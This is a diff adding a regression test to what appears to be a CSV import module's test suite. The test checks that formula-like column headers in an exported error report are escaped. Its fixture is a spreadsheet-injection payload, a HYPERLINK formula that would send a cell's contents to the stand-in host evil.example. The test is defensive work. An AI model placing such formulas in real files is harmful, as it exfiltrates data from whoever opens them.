@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 from collections.abc import Callable
 from pathlib import Path
@@ -276,6 +277,22 @@ def test_error_file_neutralises_formulas(write_csv: Callable[..., Path]) -> None
     run.refresh_from_db()
     rows = read_csv(Path(settings.VAR_DIR) / "files" / write_error_file(run))
     assert rows[0]["first_name"].startswith("'=")
+
+
+def test_error_file_neutralises_the_header_names_too(write_csv: Callable[..., Path]) -> None:
+    """Issue 18: the column names were copied raw, so a file with a formula for a header
+    gave whoever downloaded the report (administrators: everyone's) a live formula."""
+    evil = '=HYPERLINK("http://evil.example/?x="&A2;"click")'
+    row = {**contact(1, email="bad"), evil: "x"}
+    path = write_csv([row])
+    run = ImportRun.objects.create(object_type="contacts", original_name="c.csv", headers=list(row))
+    run_import(actor=None, object_type="contacts", path=path, mapping=None, run=run)
+    run.refresh_from_db()
+    target = Path(settings.VAR_DIR) / "files" / write_error_file(run)
+    with target.open(encoding="utf-8-sig", newline="") as f:
+        header = next(csv.reader(f))
+    assert "'" + evil in header and evil not in header
+    assert not [name for name in header if name.startswith(("=", "@"))]
 
 
 def test_xlsx_import(tmp_path: Path) -> None:
